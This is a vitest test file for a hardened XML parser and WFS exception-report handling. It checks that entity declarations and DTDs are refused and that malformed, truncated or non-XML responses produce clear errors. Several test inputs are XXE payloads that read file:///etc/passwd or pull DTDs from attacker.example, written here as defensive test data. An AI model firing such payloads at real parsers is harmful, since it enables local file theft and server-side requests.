import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { SourceResponseError } from './remote-source';
import { parseXmlSafely, rootElement, ServiceExceptionError, throwIfExceptionReport, XmlSafetyError } from './xml-safety';

const DTD = 'The service sent XML with a document type declaration (DTD); Haenau does not expand XML entities';

describe('parseXmlSafely', () => {
  it.each([
    ['an internal entity', '<!DOCTYPE r [<!ENTITY e "boom">]><r>&e;</r>'],
    ['an external entity', '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
    ['a parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><r/>'],
    ['an external DTD', '<!DOCTYPE r SYSTEM "http://attacker.example/r.dtd"><r/>'],
    ['a DOCTYPE behind comments and processing instructions', '<?xml version="1.0"?>\n<!-- c --><?pi x?>\n<!DOCTYPE r [<!ENTITY e "x">]><r/>'],
    ['a bare ENTITY declaration', '<!ENTITY x SYSTEM "file:///etc/passwd"><r>&x;</r>'],
    ['a byte-order mark before the DOCTYPE', '\uFEFF<!DOCTYPE r [<!ENTITY e "x">]><r/>'],
  ])('refuses %s before parsing', (_what, xml) => {
    expect(() => parseXmlSafely(xml)).toThrow(XmlSafetyError);
    expect(() => parseXmlSafely(xml)).toThrow(DTD);
  });

  it('never expands an entity reference that appears without a declaration', () => {
    expect(parseXmlSafely('<r><v>&x; &eacute;</v></r>')).toEqual({ r: { v: '&x; &eacute;' } });
  });

  it('never expands entities declared by a DOCTYPE smuggled in after the root starts', () => {
    expect(parseXmlSafely('<r><!DOCTYPE x [<!ENTITY e "boom">]><v>&e;</v></r>')).toEqual({ r: { v: '&e;' } });
  });

  it('decodes the five predefined entities and character references in text and attributes', () => {
    expect(parseXmlSafely('<r a="&quot;1&quot; &amp; &#x41;"><v>&lt;b&gt; &apos;&#233;&apos;</v></r>')).toEqual({ r: { '@a': '"1" & A', v: "<b> 'é'" } });
  });

  it('keeps CDATA exactly as written', () => {
    expect(parseXmlSafely('<r><v><![CDATA[a &amp; <b>]]></v><w x="1"><![CDATA[c]]></w></r>')).toEqual({ r: { v: 'a &amp; <b>', w: { '@x': '1', '#text': 'c' } } });
  });

  it('removes namespace prefixes unless asked to keep them', () => {
    const xml = '<wfs:R xmlns:wfs="urn:w" xmlns:gml="urn:g" gml:id="r1"><gml:name>n</gml:name></wfs:R>';
    expect(parseXmlSafely(xml)).toEqual({ R: { '@id': 'r1', name: 'n' } });
    expect(parseXmlSafely(xml, { keepPrefixes: true })).toEqual({ 'wfs:R': { '@xmlns:wfs': 'urn:w', '@xmlns:gml': 'urn:g', '@gml:id': 'r1', 'gml:name': 'n' } });
  });

  it('reads MapServer’s XML escaping test capabilities', () => {
    const text = readFileSync('/work/shared/data/wfs/mapserver-msautotest_wfs20_test_xml_escaping.xml', 'utf8');
    const [name, root] = rootElement(parseXmlSafely(text));
    expect(name).toBe('WFS_Capabilities');
    expect((root.ServiceIdentification as { Title: string }).Title).toBe('title & title');
  });

  it('says a document cut off inside an element is cut off, naming the open elements', () => {
    expect(() => parseXmlSafely('<a>\n<b>1</b>\n<c>')).toThrow("The service's XML ends before <a>, <c> are closed; the response looks cut off");
    expect(() => parseXmlSafely('<a><b>1</b>')).toThrow("The service's XML ends before <a> is closed; the response looks cut off");
    expect(() => parseXmlSafely('<a>\n<b x="1')).toThrow(/^The service's XML ends at line 2; the response looks cut off/);
  });

  it('says where malformed XML breaks', () => {
    expect(() => parseXmlSafely('<a>\n<b></c>\n</a>')).toThrow("The service sent malformed XML at line 2, column 4: Expected closing tag 'b'");
  });

  it('recognises HTML pages, plain text and empty bodies', () => {
    expect(() => parseXmlSafely('<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head><body><br></body></html>')).toThrow(
      'The service sent an HTML page ("502 Bad Gateway") where XML was expected.',
    );
    expect(() => parseXmlSafely('<HTML><BODY>Oops</BODY></HTML>')).toThrow('The service sent an HTML page where XML was expected.');
    expect(() => parseXmlSafely('Service Temporarily\n  Unavailable')).toThrow('The service did not send XML; its response begins "Service Temporarily Unavailable".');
    expect(() => parseXmlSafely('{"type":"FeatureCollection"}')).toThrow('The service did not send XML; its response begins');
    expect(() => parseXmlSafely('')).toThrow('The service sent an empty response where XML was expected.');
    expect(() => parseXmlSafely('<?xml version="1.0"?>\n')).toThrow('The service sent an empty response where XML was expected.');
  });

  it('throws SourceResponseError subclasses only', () => {
    expect(() => parseXmlSafely('<!DOCTYPE r [<!ENTITY e "x">]><r/>')).toThrow(SourceResponseError);
    expect(() => parseXmlSafely('<a>')).toThrow(SourceResponseError);
  });
});

describe('throwIfExceptionReport', () => {
  it('quotes every ExceptionText with the first code and locator', () => {
    const doc = parseXmlSafely(`<ows:ExceptionReport xmlns:ows="http://www.opengis.net/ows/1.1" version="2.0.0">
      <ows:Exception exceptionCode="OperationNotSupported" locator="STARTINDEX"><ows:ExceptionText>No paging</ows:ExceptionText></ows:Exception>
      <ows:Exception exceptionCode="NoApplicableCode"><ows:ExceptionText>Second</ows:ExceptionText></ows:Exception></ows:ExceptionReport>`);
    expect(() => throwIfExceptionReport(doc)).toThrow('The WFS answered with an exception: "No paging"; "Second" (OperationNotSupported, locator STARTINDEX).');
    expect(() => throwIfExceptionReport(doc)).toThrow(ServiceExceptionError);
  });

  it('names the code when the report gives no text', () => {
    const doc = parseXmlSafely('<ExceptionReport><Exception exceptionCode="NoApplicableCode"/></ExceptionReport>');
    expect(() => throwIfExceptionReport(doc, 'The capabilities')).toThrow('The capabilities answered with an exception: no explanation (NoApplicableCode).');
  });

  it('lets any other root through', () => {
    expect(() => throwIfExceptionReport(parseXmlSafely('<FeatureCollection/>'))).not.toThrow();
  });
});
